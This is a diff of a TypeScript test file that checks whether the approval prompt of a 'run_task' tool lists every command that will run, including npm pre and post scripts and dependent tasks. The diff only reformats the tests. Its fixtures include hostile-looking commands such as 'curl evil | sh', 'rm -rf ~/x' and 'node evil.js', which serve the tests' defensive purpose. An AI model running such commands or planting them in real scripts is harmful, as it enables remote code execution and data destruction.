@@ -26,11 +26,12 @@ async function approvalFor(host: NodeHost, name: string): Promise<string> {
 describe('run_task: the approval shows everything that will run', () => {
   test('a package.json script with its pre and post scripts', async () => {
     const { host } = workspace({ 'package.json': JSON.stringify({ scripts: { pretest: 'curl evil | sh', test: 'jest', posttest: 'rm -rf ~/x' } }) });
-    assert.equal(await approvalFor(host, 'test'), [
-      'package.json script "test": jest',
-      '  npm script "pretest" (runs first): curl evil | sh',
-      '  npm script "posttest" (runs after): rm -rf ~/x',
-    ].join('\n'));
+    assert.equal(
+      await approvalFor(host, 'test'),
+      ['package.json script "test": jest', '  npm script "pretest" (runs first): curl evil | sh', '  npm script "posttest" (runs after): rm -rf ~/x'].join(
+        '\n',
+      ),
+    );
   });
 
   test('a tasks.json npm task shows the script body from its package.json', async () => {
@@ -38,12 +39,10 @@ describe('run_task: the approval shows everything that will run', () => {
       '.vscode/tasks.json': tasksJson({ label: 'test', type: 'npm', script: 'test', path: 'app' }),
       'app/package.json': JSON.stringify({ scripts: { test: 'node evil.js', pretest: 'echo hi' } }),
     });
-    assert.equal(await approvalFor(host, 'test'), [
-      'tasks.json "test": npm run test',
-      '  npm script "pretest" (runs first): echo hi',
-      '  npm script "test": node evil.js',
-      '  in folder: app',
-    ].join('\n'));
+    assert.equal(
+      await approvalFor(host, 'test'),
+      ['tasks.json "test": npm run test', '  npm script "pretest" (runs first): echo hi', '  npm script "test": node evil.js', '  in folder: app'].join('\n'),
+    );
   });
 
   test('dependsOn tasks are shown (and run first, in order); cwd and env are shown', async () => {
@@ -55,20 +54,25 @@ describe('run_task: the approval shows everything that will run', () => {
       ),
       'src/x.ts': '',
     });
-    assert.equal(await approvalFor(host, 'build'), [
-      'tasks.json "build": echo built >> log.txt',
-      '  runs first: tasks.json "lint": echo linted >> ../log.txt',
-      '    in folder: src',
-      '    with env: MODE=strict',
-      '  runs first: tasks.json "gen": sh -c echo generated >> log.txt',
-    ].join('\n'));
+    assert.equal(
+      await approvalFor(host, 'build'),
+      [
+        'tasks.json "build": echo built >> log.txt',
+        '  runs first: tasks.json "lint": echo linted >> ../log.txt',
+        '    in folder: src',
+        '    with env: MODE=strict',
+        '  runs first: tasks.json "gen": sh -c echo generated >> log.txt',
+      ].join('\n'),
+    );
     const ran = await callTool(host, 'run_task', { name: 'build' });
     assert.equal(ran.ok, true, ran.output);
     assert.equal(fs.readFileSync(path.join(root, 'log.txt'), 'utf8'), 'linted\ngenerated\nbuilt\n');
   });
 
   test('a failing dependency stops the task before it runs', async () => {
-    const { root, host } = workspace({ '.vscode/tasks.json': tasksJson({ label: 'deploy', command: 'touch deployed', dependsOn: 'check' }, { label: 'check', command: 'exit 3' }) });
+    const { root, host } = workspace({
+      '.vscode/tasks.json': tasksJson({ label: 'deploy', command: 'touch deployed', dependsOn: 'check' }, { label: 'check', command: 'exit 3' }),
+    });
     const ran = await callTool(host, 'run_task', { name: 'deploy' });
     assert.equal(ran.ok, false);
     assert.match(ran.output, /Exit code: 3/);
@@ -120,7 +124,14 @@ describe('run_task: the approval shows everything that will run', () => {
       ),
       'package.json': JSON.stringify({ scripts: { build: 'echo built >> log.txt' } }),
     });
-    assert.equal(await approvalFor(host, 'ship'), ['tasks.json "ship": echo shipped >> log.txt', '  runs first: tasks.json "npm: build": npm run build', '    npm script "build": echo built >> log.txt'].join('\n'));
+    assert.equal(
+      await approvalFor(host, 'ship'),
+      [
+        'tasks.json "ship": echo shipped >> log.txt',
+        '  runs first: tasks.json "npm: build": npm run build',
+        '    npm script "build": echo built >> log.txt',
+      ].join('\n'),
+    );
     const ran = await callTool(host, 'run_task', { name: 'ship' });
     assert.equal(ran.ok, true, ran.output);
     assert.equal(fs.readFileSync(path.join(root, 'log.txt'), 'utf8'), 'built\nshipped\n');
